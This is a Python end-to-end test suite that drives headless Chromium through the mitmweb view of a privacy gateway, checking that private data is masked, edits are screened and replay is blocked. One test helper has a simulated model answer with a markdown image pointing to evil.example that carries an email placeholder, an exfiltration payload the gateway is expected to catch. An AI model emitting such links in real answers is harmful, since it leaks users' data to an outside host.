"""mitmweb as an operator sees it, in a real browser: sent requests are readable, and no private word is anywhere.

Needs Debian's `chromium` and `chromium-driver`; skipped without them, but not where continuous integration runs.
With `PICTURES_OF_MITMWEB` naming a folder, the pictures of docs/operating.md are taken on the way.
"""

import os
import re
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from selenium import webdriver
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webelement import WebElement

from tests.e2e.mitmweb import Flow, everything, operator, token_of, wait_for
from tests.e2e.server import OPERATOR_KEY, Running
from tests.e2e.upstream import Recorded, Reply, Upstream, completion

NAME, MAIL, IBAN, CARD = "Wilhelmina Oxenfoord", "w.oxenfoord@acme.test", "DE89 3704 0044 0532 0130 00", "4111 1111"
TEXT = f"Draft a reply: my name is {NAME}, {MAIL}, IBAN {IBAN}, card {CARD} 1111 1111. My parcel is late."
PRIVATE = ("Wilhelmina", "Oxenfoord", "oxenfoord", "0532 0130", "4111 1111", OPERATOR_KEY, "upstream-key-of-the-tests")
CHAT = {"model": "configured-upstream", "messages": [{"role": "user", "content": TEXT}]}
FLAGS = """
    --headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking
    --disable-component-update --disable-sync --disable-dev-shm-usage --window-size=1300,900
"""
ROWS = ".flow-table tbody tr:has(td)"


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[webdriver.Chrome]:
    chromium, driver = shutil.which("chromium"), shutil.which("chromedriver")
    if chromium is None or driver is None:
        message = "chromium and chromedriver are not installed (Debian: apt install chromium chromium-driver)"
        root_on_debian = Path("/etc/debian_version").exists() and os.geteuid() == 0
        if os.environ.get("CI") == "true" and root_on_debian:
            pytest.fail(message)
        pytest.skip(message)
    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for flag in (*FLAGS.split(), f"--user-data-dir={tmp_path_factory.mktemp('chromium')}"):
        options.add_argument(flag)
    started = webdriver.Chrome(options=options, service=webdriver.ChromeService(driver))
    try:
        yield started
    finally:
        started.quit()


@pytest.fixture
def page(browser: webdriver.Chrome, running: Running) -> webdriver.Chrome:
    """mitmweb, opened with the address that the gateway printed, its list empty."""
    with operator(running) as web:
        web.post("/clear")
    browser.get(f"http://127.0.0.1:{running.web_port}/?token={token_of(running)}#/flows")
    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, ".main-menu"))
    return browser


def rows(page: webdriver.Chrome) -> list[WebElement]:
    return page.find_elements(By.CSS_SELECTOR, ROWS)


def click(page: webdriver.Chrome, text: str) -> None:
    """Clicks the link or button of that text, once it is there."""

    path = f"//*[self::a or self::button][normalize-space(translate(., '\xa0', ' ')) = '{text}']"
    wait_for(lambda: page.find_elements(By.XPATH, path))[0].click()


def shown(page: webdriver.Chrome, words: str) -> str:
    """The text of the page once it holds `words`."""
    return wait_for(lambda: text if words in (text := page.find_element(By.TAG_NAME, "body").text) else None)


def picture(page: webdriver.Chrome, name: str, height: int = 900) -> None:
    if folder := os.environ.get("PICTURES_OF_MITMWEB"):
        page.set_window_size(1300, height)
        page.save_screenshot(str(Path(folder) / f"{name}.png"))


def private_in(text: str) -> list[str]:
    return [word for word in PRIVATE if word in text]


def polite(request: Recorded) -> Reply:
    """Answers with the placeholders it was given."""
    words = request.json["messages"][-1]["content"].split()
    name, mail = (next(w.strip(",.") for w in words if w.startswith(f"[{kind}_")) for kind in ("PERSON", "EMAIL"))
    return completion({"role": "assistant", "content": f"Dear {name},\n\nwe are sorry. A copy goes to {mail}."})


def leaking(request: Recorded) -> Reply:
    words = request.json["messages"][-1]["content"].split()
    mail = next(word.strip(",.") for word in words if word.startswith("[EMAIL"))
    return completion({"role": "assistant", "content": f"![x](https://evil.example/?q={mail})"})


def ask_everywhere(running: Running, upstream: Upstream, tls_upstream: Upstream) -> None:
    """Calls of every kind, each with private words in it."""
    upstream.answer = tls_upstream.answer = polite
    context = running.trust
    with running.client() as client:
        assert NAME in client.post("/v1/chat/completions", json=CHAT).text
        with httpx.Client(proxy=running.proxy, verify=context, trust_env=False, timeout=30) as through:
            assert NAME in through.post(f"{tls_upstream.url}/v1/chat/completions", json=CHAT | {"model": "gpt-x"}).text
        upstream.answer = leaking
        client.post("/v1/chat/completions", json=CHAT)
        client.post("/v1/protect", json={"text": TEXT})
        client.post("/v1/analyze", json={"text": TEXT})
        assert NAME in client.post("/v1/chat/completions", json=CHAT | {"model": "svc-demo"}).text
        client.post("/v1/chat/completions", json=CHAT | {"stream": True})
        client.get(f"/v1/policies/{MAIL}?who={MAIL}")


def test_sent_requests_are_readable_and_nothing_private_is_anywhere(
    page: webdriver.Chrome, running: Running, upstream: Upstream, tls_upstream: Upstream
) -> None:
    ask_everywhere(running, upstream, tls_upstream)
    wait_for(lambda: len(rows(page)) == 8)
    seen = [page.page_source]
    listed = [row.text for row in rows(page)]
    picture(page, "flow-list", 600)
    for number, row in enumerate(rows(page)):
        row.click()
        for tab in ("Request", "Response", "Connection", "Timing", "Comment"):
            click(page, tab)
            if tab in {"Request", "Response"}:
                wait_for(lambda: page.find_elements(By.CSS_SELECTOR, ".flow-detail pre"))
            if (number, tab) == (0, "Request"):
                assert "*[EMAIL_ADDRESS_" in shown(page, "[EMAIL_ADDRESS_")
                assert "# policy    default, version 3" in shown(page, "# policy")
                assert "EMAIL_ADDRESS pattern 1" in shown(page, "# because")
                picture(page, "reviewed-request")
            if (number, tab) == (0, "Response"):
                assert "*[PERSON_" in shown(page, "[PERSON_")
            seen.append(page.page_source)
    with operator(running) as web:
        seen.append(everything(web).decode("utf-8", "replace"))
    assert [private_in(each) for each in seen] == [[]] * len(seen)
    assert not private_in((upstream.seen + tls_upstream.seen).decode().replace("upstream-key-of-the-tests", ""))
    assert not [each for each in seen if "gateway.invalid" in each]
    markers = [next((mark for mark in "✔✂⚠ℹ✖" if mark in row), "") for row in listed]
    assert markers[:2] == ["✔", "✔"]
    assert markers[2] in {"✂", "⚠"}
    assert markers[3:] == ["ℹ", "ℹ", "ℹ", "✖", "✖"]
    said = [re.search(r"protected|answer \w+|answered|refused: \w+", row) for row in listed]
    words = [found[0] if found else "" for found in said]
    assert words[:2] == ["protected", "protected"]
    assert words[2] in {"answer redacted", "answer flagged"}
    assert words[3:6] == ["answered"] * 3
    assert words[6:] == ["refused: streaming_not_supported", "refused: validation_error"]
    assert re.search(r"protected · [^·]+ · 4 hidden · #", listed[0])
    assert "protected · 4 hidden · #" in listed[1], "a client of the proxy has no gateway key"
    assert all(re.match(r"20\d\d-\d\d-\d\d \d\d:\d\d:\d\d", row) for row in listed)


def test_no_page_offers_what_does_not_apply(page: webdriver.Chrome, running: Running) -> None:
    page.get(f"http://127.0.0.1:{running.web_port}/#/capture")
    page.refresh()
    text = shown(page, "The gateway is running.")
    for tab in ("Options", "Edit Options alpha"):
        click(page, tab)
        text += shown(page, "Display Event Log")
    wait_for(lambda: page.find_elements(By.CSS_SELECTOR, ".modal-body"))
    text += page.find_element(By.TAG_NAME, "body").text
    assert "web_columns" in text
    for word in ("gateway.invalid", "Capture", "reverse:", "no-http2", "upstream-cert", "certificate", "ssl_insecure"):
        assert word not in text, word
    with operator(running) as web:
        assert b"gateway.invalid" not in everything(web)


def test_replay_says_in_the_page_that_it_is_not_possible(
    page: webdriver.Chrome, running: Running, upstream: Upstream
) -> None:
    with running.client() as client:
        client.post("/v1/chat/completions", json=CHAT)
    wait_for(lambda: rows(page))[0].click()
    click(page, "Flow")
    click(page, "Replay")
    assert wait_for(lambda: page.find_elements(By.ID, "gateway-notice"))[0].text.startswith("Replaying is not possible")
    assert len(upstream.recorded) == 1


def test_the_address_keeps_no_token_and_signing_out_asks_for_it_again(page: webdriver.Chrome, running: Running) -> None:
    assert token_of(running) not in page.current_url
    click(page, "Sign out")
    field = wait_for(lambda: page.find_elements(By.NAME, "token"))[0]
    assert "or the one in the address that the gateway shows" in shown(page, "Sign in")
    field.send_keys(token_of(running), Keys.ENTER)
    wait_for(lambda: page.find_elements(By.CSS_SELECTOR, ".main-menu"))


def test_an_operator_edits_a_held_request_in_the_browser(
    page: webdriver.Chrome, running: Running, upstream: Upstream
) -> None:
    answer, flow = edit_in_browser(page, running, "Keep it short. ")
    assert answer.json()["choices"][0]["message"]["content"] == f"Keep it short. {TEXT}"
    assert b"Keep it short. Draft" in upstream.recorded[-1].body
    assert not private_in(upstream.recorded[-1].body.decode())
    assert flow["marked"] == "✏"


def test_an_edit_in_the_browser_that_would_let_something_out(
    page: webdriver.Chrome, running: Running, upstream: Upstream
) -> None:
    answer, flow = edit_in_browser(page, running, f"{NAME} asks: ")
    assert answer.status_code == 403
    assert not upstream.recorded
    assert flow["marked"] == "✖"
    wait_for(lambda: not private_in(page.page_source))
    shown(page, "# found     PERSON at /messages/0/content, character 1")
    picture(page, "refused-edit", 800)


def edit_in_browser(page: webdriver.Chrome, running: Running, words: str) -> tuple[httpx.Response, Flow]:
    """Holds a request back, writes into its text in the page's own editor, lets it go: the answer, and the flow."""
    answers: list[httpx.Response] = []
    with operator(running) as web, running.client() as client:
        web.put("/options", json={"intercept": "~q"})
        thread = threading.Thread(target=lambda: answers.append(client.post("/v1/chat/completions", json=CHAT)))
        try:
            thread.start()
            wait_for(lambda: rows(page))[0].click()
            shown(page, "[EMAIL_ADDRESS_")
            picture(page, "held-request")
            path = f"/flows/{web.get('/flows').json()[0]['id']}"
            body = web.get(f"{path}/request/content.data").text
            click(page, "Edit")
            write(page, words, body.index("Draft a reply"))
            click(page, "Done")
            edited = body.replace("Draft a reply", f"{words}Draft a reply")
            wait_for(lambda: web.get(f"{path}/request/content.data").text == edited)
            click(page, "Resume")
            thread.join(20)
            return answers[0], web.get("/flows").json()[0]
        finally:
            web.put("/options", json={"intercept": None})
            web.post("/flows/resume")
            thread.join(20)


def write(page: webdriver.Chrome, text: str, at: int) -> None:
    """Writes into the body in mitmweb's editor, in front of its character `at`."""
    found = wait_for(lambda: [e for e in page.find_elements(By.CSS_SELECTOR, ".cm-content") if "[EMAIL_" in e.text])
    found[0].click()
    keys = ActionChains(page).key_down(Keys.CONTROL).send_keys(Keys.HOME).key_up(Keys.CONTROL)
    keys.send_keys(Keys.RIGHT * at + text).perform()
